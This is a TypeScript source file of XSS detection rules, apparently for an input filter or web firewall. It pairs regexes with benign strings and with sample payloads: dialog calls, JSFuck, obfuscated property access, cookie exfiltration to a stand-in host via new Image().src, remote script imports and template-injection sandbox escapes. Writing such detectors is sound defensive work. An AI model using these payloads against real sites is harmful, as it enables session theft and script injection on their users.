import type { Rule } from '../../rule.ts';
import { everywhere } from '../places.ts';
import { globals } from './pieces.ts';

const raw = String.raw;
const comment = raw`(?:\s|/\*[^*]*\*/)*`;

/** Script without markup: values that are put into a script, a template or an address of a page. */
export const scriptRules: readonly Rule[] = [
  {
    id: 'xss-dialog',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Calls of alert, prompt and confirm as payloads have them.',
    in: everywhere,
    screen: 'scriptCall',
    when: [
      {
        regex:
          raw`\b(?:alert|prompt|confirm|print)${comment}\)?${comment}(?:\?\.)?\((?:\s*(?:\d{1,7}\s*\)|/\w+/|document\b|window\b|location\b|origin\b|self\b|top\b|this\b|["'\x{60}/]?xss|cookie|String\.|atob\(|name\)|["'\x{60}]\d{0,6}["'\x{60}]\s*\)|1\b))` +
          raw`|(?:["';=}]|-|\)\s*;|\*/|//)\s*(?:alert|prompt|confirm)${comment}\(|^\W{0,4}(?:alert|prompt|confirm)${comment}\([^()\n]{0,80}\)?\W*$|(?:^|[^\x{60}\w.$])(?:alert|prompt|confirm|eval|setTimeout|setInterval|atob)(?:\x{60}(?:\d{1,7}|[^\x{60}\n]*[(\\$<][^\x{60}\n]*)?\x{60}(?:\W|$)|(?:\.|\[["'])(?:call|apply|bind)\b)|\((?:alert|prompt|confirm|eval)\)\s*[(\x{60}]|=\s*(?:alert|prompt|confirm)\s*[,;&|)]|\.(?:find|map|some|every|filter|forEach|sort|from|then|replace|reduce)\w*\(\s*(?:alert|prompt|confirm)\s*[,)]|\b(?:top|self|window|parent|this|globalThis)(?:\?\.|\.)(?:alert|prompt|confirm|eval|print)\b`,
        minLength: 6,
      },
    ],
    bad: [
      "';alert(1)//",
      'alert()',
      'confirm()',
      'alert`1`',
      '"-prompt(8)-"',
      '(alert)(1)',
      'alert(document.domain)',
      '[1].find(alert)',
      'window.alert(1)',
      'x=alert;x(1)',
    ],
    good: [
      "The browser's alert (a box) shows",
      'Please confirm (by mail)',
      'an alert("Saved your file") appears',
      'confirm the order',
      'red alert, prompt reply',
    ],
  },
  {
    id: 'xss-computed-access',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: "Functions called by names that are put together, such as self['al'+'ert'](1).",
    in: everywhere,
    screen: 'scriptCall',
    when: [
      {
        regex:
          raw`\b${globals}${comment}\)*${comment}(?:\?\.)?\[${comment}(?:["'/(\\!+\[]|\x{60}[\w$\\{}]+\x{60}\s*\]|atob|Object\.keys|String\.|\w+\+)[^\]]*\]*\]${comment}\)*${comment}(?:\?\.)?(?:\(|\x{60}|\[|=[^=>])` +
          raw`|\b${globals}${comment}\)*${comment}\[${comment}["'\x{60}\\](?:cookie|alert|eval|document|location|domain|\$|atob|prompt|confirm|Function|setTimeout|localStorage|innerHTML|write)\b` +
          raw`|\[${comment}["'][^"'\]]{0,30}["']${comment}\+${comment}["'][^\]]*\]${comment}(?:\(|\x{60}|\[)|\[[^\]]{0,40}/\w+/\.source|\[["']constructor["']\]${comment}[(\[]`,
        minLength: 8,
      },
    ],
    bad: [
      "self['al'+'ert'](1)",
      'top["al"+"ert"](1)',
      'window["alert"](window["document"]["cookie"])',
      '(document)["cookie"]',
      'window[/al/.source+/ert/.source](1)',
      'self[Object.keys(self)[5]](1)',
      'a["constructor"]("x")',
    ],
    good: ["window['dataLayer'] || []", 'this[name](value)', 'self["x"]', 'array[0](1)', 'Top [1] of [2]'],
  },
  {
    id: 'xss-obfuscated',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Script that is written to be read by nobody: JSFuck, character codes, decoded text that is run.',
    in: everywhere,
    screen: 'scriptCall',
    when: [
      {
        regex:
          raw`!!\[\]|!\[\]\s*[+)\]]|[+!)\]]\s*\+\[\]|\[\]\s*\[\s*(?:["'\x{60}]|\()|\(!\[\]|\[\s*\]\s*\[\s*\(?\s*!|\[\]\[\[\]\]` +
          raw`|String\s*(?:\.|\[["'])\s*fromC(?:harCode|odePoint)|\b(?:eval|setTimeout|setInterval|execScript)\s*\(+\s*(?:["'][^"']{0,120}["']\s*\)\s*(?:$|[;)}<"'])|["']\W|/|atob|unescape|decodeURI|String|name\b|location|window|document|this|self|top|\w+\.(?:join|replace|reverse|slice|hash))|\beval\s*\(\s*\d|\b(?:unescape|decodeURI(?:Component)?|atob)\s*\(\s*["'\x{60}]%|\batob\s*\(\s*["'\x{60}][\w+/=]{8,}` +
          raw`|^[\s"'();}]{0,8}(?:(?:eval|setTimeout|setInterval|new\s+Function|unescape|execScript|XMLHttpRequest)(?:\s*\(\s*(?:[^\s\w)]|\w+\s*(?:[^\s\w]|$))|\(\s*\w)|(?:btoa|atob)\s*\()[^\n]*$|\$=~\[\]|\x{ff9f}\x{3c9}\x{ff9f}|\w=\[\]\+|\\x61\\x6c|\\141\\154|\(\d{4,}\)\.toString\(3[0-6]\)`,
        minLength: 4,
      },
    ],
    bad: [
      '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]',
      '!![]',
      'String.fromCharCode(88)',
      'eval(atob("YQ=="))',
      "eval('2 + 2')",
      'setInterval(code, 1)',
    ],
    good: [
      '[![](https://a.b/c.svg)](https://a.b)',
      '![](a.png)',
      '[] and {}',
      '![][logo]',
      'the eval(uation) of it',
      'eval (short for evaluation)',
    ],
  },
  {
    id: 'xss-page-object',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'A value that is script about the page, its address or its cookies.',
    in: everywhere,
    screen: 'scriptWord',
    when: [
      {
        regex: raw`^\W{0,12}(?:\w{1,20}\s*=\s*)?\(?(?:document|window|self|top|parent|globalThis|frames)\)?${comment}\.${comment}(?:cookie|location|domain|body|write(?:ln)?|documentElement|URL|referrer|forms|scripts|images|createElement|getElement\w+|querySelector\w*|name|open|eval|alert|onerror|onload|defaultView|localStorage|opener|import)(?:[^\w\s][^\n]*|\s*=[^\n]*)?\s*$`,
        minLength: 8,
      },
    ],
    bad: [
      'window.location',
      'document.body.appendChild(document.createElement("h1")).textContent = "XSS"',
      'document /*foo*/ .     cookie',
    ],
    good: ['The document.title of a page', 'the window. Then close it', "window['dataLayer'] || []", 'Top. Self made.'],
  },
  {
    id: 'xss-exfiltration',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Script that sends cookies away, writes into the page, leaves it or loads more script.',
    in: everywhere,
    screen: 'scriptWord',
    when: [
      {
        regex:
          raw`(?:fetch|src|href|location|open|sendBeacon|ajax|getScript|post|image)\b[^\n]*document\s*\.\s*cookie|["'][ \t;)}]*document\s*\.\s*(?:cookie|write(?:ln)?\s*\(|location\s*=|domain|body\.)|document\s*\.\s*write(?:ln)?\s*\(\s*["'\x{60}]?\s*(?:<|String|unescape|atob|location)` +
          raw`|\blocation(?:\.(?:href|hash|search|assign|replace))?\s*(?:=|\()\s*["'\x{60}(]*(?:name\b|javas|//|data:|atob)|["'}]\s*;\s*(?:window|location|document|top|self)\s*[.=\[(]|\.insertAdjacentHTML\(|(?:\$|jQuery)\.(?:getScript|globalEval)|\bthrow\s+onerror|onerror\s*=\s*(?:alert|eval)|with\s*\(\s*document\s*\)|\bimport\s*\(\s*["'\x{60}](?:https?:)?(?://|\\\\|data:)|new\s+Image\s*\(?\)?\s*\.\s*src\s*=`,
        minLength: 10,
      },
    ],
    bad: [
      "';document.cookie;'",
      "new Image().src='//a.b/?'+document.cookie",
      "location='javas'+'cript:x'",
      "import('//a.b/x.js')",
      'onerror=alert;throw 1',
      "document.write('<b>')",
      "$.getScript('//test.example')",
    ],
    good: ['A document and a cookie', 'our location: Berlin', 'location = Berlin', 'read document.cookie in a script'],
  },
  {
    id: 'xss-call-tricks',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Functions made from text, called without brackets or by way of other functions.',
    in: everywhere,
    screen: 'scriptCall',
    when: [
      {
        regex: raw`constructor${comment}(?:\.${comment}constructor|\[["'\x{60}]constructor["'\x{60}]\])?${comment}(?:\(${comment}["'\x{60}]|\x{60}[^\x{60}\n]+\x{60}(?:\x{60}\x{60}|\())|constructor\.constructor|\.${comment}(?:call|apply|bind)${comment}\x{60}${comment}(?:\$\s*\{|\x{60}|\\)|\.(?:sort|map|filter|find|some|every|forEach|from|replace)\x{60}[^\x{60}]*[$\\]|\b(?:new\s+)?Function${comment}(?:\(\s*["'][^\n]*\)\s*(?:\(|\x{60}\x{60})|\x{60}[^\x{60}\n]+\x{60}(?:\x{60}\x{60}|\(\)))|Reflect\.\w+\.\w+\x{60}\x{60}|Reflect\.\w+\x{60}[^\x{60}\n]*[$\\]|\[[^\]]{0,20}\]${comment}\.${comment}(?:map|find|filter|forEach|some|every|sort|reduce)\w*${comment}\.?${comment}\w*${comment}\(?${comment}(?:alert|eval|prompt|confirm|print)|\b(?:Array|Object)\.(?:from|assign|prototype)\b[^\n]{0,60}(?:alert|eval|prompt|confirm)|\bset(?:Timeout|Interval)\s*(?:\(\s*["'\x{60}]|\x{60}[^\x{60}\n]*[(\\$])|\bString\.raw\x{60}|(?:toString|valueOf|onerror|hasInstance)\]?\s*[:=]\s*(?:alert|eval|prompt|confirm|print)\b`,
        minLength: 8,
      },
    ],
    bad: [
      "[].filter.constructor('alert(1)')()",
      '[].sort.call`${alert}1337`',
      "Function('alert(1)')()",
      'Reflect.sort.call``',
      '[1].map(alert)',
      'setTimeout`alert(1)`',
      "setTimeout('x',1)",
    ],
    good: ['the constructor (of a class)', 'Use `Array.from` for this', 'items.map(x => x)', 'constructor(name) { }'],
  },
  {
    id: 'xss-template-expression',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Expressions in double braces with which AngularJS, Vue and their like run script.',
    in: everywhere,
    screen: 'braces',
    when: [
      {
        regex: raw`(?:\{\{|\$\{|<%|#\{)[^\n]*(?:constructor\b|\$(?:eval|on|new|apply|parent|watch|event|root)\b|__proto__|prototype\b|charAt\s*=|fromCharCode|orderBy\s*:|toString\(\)\s*\.|\b(?:alert|prompt|confirm|eval|fetch)\s*[(\x{60}]|document\.(?:cookie|domain|write|location)|window\.(?:location|name|open|alert)|_openBlock|_createBlock|\$refs|_c\.|_v\.|_s\.|\$emit\.|_Vue|\.ownerDocument|defaultView|\.sub\.call)`,
        minLength: 8,
      },
    ],
    bad: [
      "{{constructor.constructor('alert(1)')()}}",
      "{{$on.constructor('alert(1)')()}}",
      "{{_openBlock.constructor('alert(1)')()}}",
      '{{$eval.constructor("x")()}}',
      '${alert(1)}',
      "{{'a'.constructor.prototype.charAt=[].join}}",
    ],
    good: ['{{ user.name }}', '${name}', 'Hello {{name}}', '{{ price | currency }}'],
  },
];
